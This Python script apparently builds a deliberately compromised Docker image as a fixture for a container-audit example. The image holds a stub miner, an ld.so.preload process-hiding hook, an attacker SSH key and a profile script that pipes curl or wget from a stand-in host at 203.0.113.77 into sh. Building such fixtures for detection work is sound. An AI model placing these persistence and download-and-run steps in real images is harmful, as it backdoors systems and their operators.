"""Build the bundled example's compromised image, in code, as a ``docker save`` archive.

The story (see ``make_examples.py`` for the audit side): the shop's ``payments`` image was
rebuilt from a poisoned pipeline. Its layers, bottom up:

0. base rootfs: busybox (the host's static ``/bin/busybox`` and its applet links when it
   exists, which makes the image runnable; otherwise a placeholder script), accounts, crontab;
1. the application (``COPY app/ /app/``), including a ``.env`` with a database password;
2. the implant: a "kdevtmpfsi" miner, an ``ld.so.preload`` rootkit hook, an attacker's SSH
   key and a profile script that downloads and runs a stage two;
3. ``RUN rm /app/.env``: the secret is hidden by a whiteout but still in layer 1.

Everything is deterministic (fixed times, owners and order), so with the same busybox the
image has the same digest on every machine. Run ``python examples/compromised_image.py OUT.tar``.
"""

from __future__ import annotations

import hashlib
import io
import json
import subprocess
import sys
import tarfile
from collections.abc import Iterable
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

TAG = "registry.example.com/shop/payments:1.4.2"
BUILT = datetime(2026, 11, 12, 8, 30, 0, tzinfo=UTC)
ATTACKER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3p6bT1n0k8wq4m7J1f0xQ2pKz3yX8vR5sL9cD2eF4a ops@203.0.113.77"

File = tuple[str, bytes, int]  # path, content, mode


@dataclass(frozen=True)
class BuiltImage:
    path: Path
    config_digest: str  # the image id: sha256 of the config
    diff_ids: list[str]
    tag: str
    runnable: bool


def _tar(files: Iterable[File], links: Iterable[tuple[str, str]] = (), mtime: float = 0) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        dirs: set[str] = set()
        entries = sorted(files)

        def mkdirs(path: str) -> None:
            parts = path.split("/")[:-1]
            for i in range(1, len(parts) + 1):
                d = "/".join(parts[:i])
                if d and d not in dirs:
                    dirs.add(d)
                    ti = tarfile.TarInfo(d)
                    ti.type, ti.mode, ti.mtime = tarfile.DIRTYPE, 0o755, mtime
                    tf.addfile(ti)

        for path, data, mode in entries:
            mkdirs(path)
            ti = tarfile.TarInfo(path)
            ti.size, ti.mode, ti.mtime = len(data), mode, mtime
            tf.addfile(ti, io.BytesIO(data))
        for path, target in sorted(links):
            mkdirs(path)
            ti = tarfile.TarInfo(path)
            ti.type, ti.linkname, ti.mode, ti.mtime = tarfile.SYMTYPE, target, 0o777, mtime
            tf.addfile(ti)
    return buf.getvalue()


def _busybox_applets(busybox: Path) -> list[str]:
    out = subprocess.run([str(busybox), "--list-full"], capture_output=True, check=True, timeout=10)
    # `--list-full` names bin/busybox itself: linking it would replace the binary.
    return [a for a in out.stdout.decode().split() if a and a != "bin/busybox"]


def layers(busybox: Path | None) -> list[tuple[bytes, str]]:
    t = BUILT.timestamp()
    passwd = b"root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/app:/bin/sh\n"
    base_files: list[File] = [
        ("etc/passwd", passwd, 0o644),
        ("etc/group", b"root:x:0:\napp:x:1000:\n", 0o644),
        ("etc/os-release", b'NAME="Busybox"\nID=busybox\n', 0o644),
        ("etc/crontabs/root", b"# no jobs\n", 0o600),
        ("tmp/.keep", b"", 0o644),
    ]
    links: list[tuple[str, str]] = []
    if busybox is not None:
        base_files.append(("bin/busybox", busybox.read_bytes(), 0o755))
        links = [(a, "/bin/busybox") for a in _busybox_applets(busybox)]
    else:
        base_files.append(
            ("bin/busybox", b"#!/bin/busybox\n# placeholder: no busybox here\n", 0o755)
        )
        links = [(f"bin/{a}", "/bin/busybox") for a in ("sh", "sleep", "cat", "ls")]
    base = _tar(base_files, links, t - 86400 * 30)
    app = _tar(
        [
            ("app/server.sh", b"#!/bin/sh\nwhile true; do sleep 60; done\n", 0o755),
            ("app/config.yaml", b"listen: 8080\nupstream: payments-db.shop.svc:5432\n", 0o644),
            ("app/.env", b"DB_PASSWORD=Sup3r-s3cret-payments\n", 0o600),
        ],
        (),
        t - 3600,
    )
    implant = _tar(
        [
            # Not a working miner: a stub with the strings scanners and people look for.
            (
                "usr/local/bin/kdevtmpfsi",
                b"\x7fELF\x02\x01\x01"
                + b"\0" * 9
                + b"xmrig stratum+tcp://pool.example.net:3333 --donate-level 1\n",
                0o755,
            ),
            (
                "usr/local/lib/libprocesshider.so",
                b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"readdir processhider kdevtmpfsi\n",
                0o755,
            ),
            ("etc/ld.so.preload", b"/usr/local/lib/libprocesshider.so\n", 0o644),
            ("root/.ssh/authorized_keys", ATTACKER_KEY.encode() + b"\n", 0o600),
            (
                "etc/profile.d/update.sh",
                b"#!/bin/sh\n(curl -fsSL http://203.0.113.77/x.sh || wget -qO- http://203.0.113.77/x.sh)"
                b" | sh >/dev/null 2>&1 &\n",
                0o755,
            ),
        ],
        (),
        t - 1800,
    )
    cleanup = _tar([("app/.wh..env", b"", 0o644)], (), t)
    return [
        (base, "ADD busybox-rootfs.tar / # base"),
        (app, "COPY app/ /app/ # buildkit"),
        (implant, "RUN /bin/sh -c curl -fsSL http://203.0.113.77/i.sh | sh # buildkit"),
        (cleanup, "RUN /bin/sh -c rm /app/.env # buildkit"),
    ]


def build(out: Path, busybox: Path | None = None, tag: str = TAG) -> BuiltImage:
    """Write the image as a ``docker save`` archive (legacy layout: ``docker load`` of every
    Docker version and Podman accept it)."""
    if busybox is None and Path("/bin/busybox").is_file():
        busybox = Path("/bin/busybox")
    built = layers(busybox)
    diff_ids = ["sha256:" + hashlib.sha256(data).hexdigest() for data, _ in built]
    created = [
        datetime.fromtimestamp(BUILT.timestamp() - s, UTC) for s in (86400 * 30, 3600, 1800, 0)
    ]
    config = {
        "architecture": "amd64",
        "os": "linux",
        "created": BUILT.strftime("%Y-%m-%dT%H:%M:%SZ"),
        "config": {
            "Env": ["PATH=/usr/local/bin:/usr/bin:/bin", "APP_ENV=production"],
            "Entrypoint": ["/app/server.sh"],
            "WorkingDir": "/app",
            "Labels": {"org.opencontainers.image.source": "https://git.example.com/shop/payments"},
        },
        "rootfs": {"type": "layers", "diff_ids": diff_ids},
        "history": [
            {"created": c.strftime("%Y-%m-%dT%H:%M:%SZ"), "created_by": by}
            for c, (_, by) in zip(created, built, strict=True)
        ],
    }
    config_bytes = json.dumps(config, sort_keys=True, separators=(",", ":")).encode()
    config_hex = hashlib.sha256(config_bytes).hexdigest()
    members: list[tuple[str, bytes]] = [(f"{config_hex}.json", config_bytes)]
    layer_names = []
    for (data, _), d in zip(built, diff_ids, strict=True):
        name = f"{d[7:]}/layer.tar"
        layer_names.append(name)
        members.append((name, data))
    manifest = [{"Config": f"{config_hex}.json", "RepoTags": [tag], "Layers": layer_names}]
    members.append(("manifest.json", json.dumps(manifest).encode()))
    out.parent.mkdir(parents=True, exist_ok=True)
    with tarfile.open(out, "w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), 0o644, BUILT.timestamp()
            tf.addfile(ti, io.BytesIO(data))
    return BuiltImage(out, "sha256:" + config_hex, diff_ids, tag, busybox is not None)


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "payments-image.tar")
    img = build(target)
    print(f"wrote {img.path} ({img.tag}, {img.config_digest})")
